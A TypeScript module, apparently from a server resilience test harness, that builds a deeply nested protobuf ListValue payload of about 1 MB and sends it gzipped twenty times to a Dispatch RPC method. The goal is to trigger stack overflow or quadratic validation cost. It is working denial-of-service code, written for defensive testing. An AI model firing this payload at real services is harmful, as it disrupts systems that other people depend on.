/**
 * A payload of values nested as deep as its bytes allow. A check that calls itself for each level overflows the stack, or
 * costs the square of the depth because each level is measured again.
 */
import { bytesField, concat, tag, varint } from "../../support/wire-bytes.js";
import type { Attack } from "../attack.js";
import { prepared } from "../attacker/stream.js";
import { METHOD } from "./messages.js";

const MESSAGE_BYTES = 1_000_000;
const CALLS = 20;

export const nestedValues: Attack = {
  name: "nested-values",
  sends: `Dispatch, gzipped: ${CALLS} requests with lists of lists, as deep as 1 MB allows`,
  async run(attacker) {
    const request = concat(bytesField(1, "nested"), bytesField(2, nestedLists()));
    const message = prepared(bytesField(1, request), true);
    const caller = attacker.connect();
    await attacker.repeat(CALLS, 1, () => caller.call(METHOD.dispatch, message, { gzip: true }));
  },
};

/** A ListValue whose only value is a ListValue, and so on; written from the innermost level outwards. */
function nestedLists(): Buffer {
  const levels: Buffer[] = [];
  let byteLength = 0;
  while (byteLength < MESSAGE_BYTES) {
    // The field list_value of a Value, in the field values of a ListValue.
    for (const field of [6, 1]) {
      const prefix = concat(tag(field, 2), varint(byteLength));
      levels.push(prefix);
      byteLength += prefix.byteLength;
    }
  }
  return Buffer.concat(levels.reverse());
}
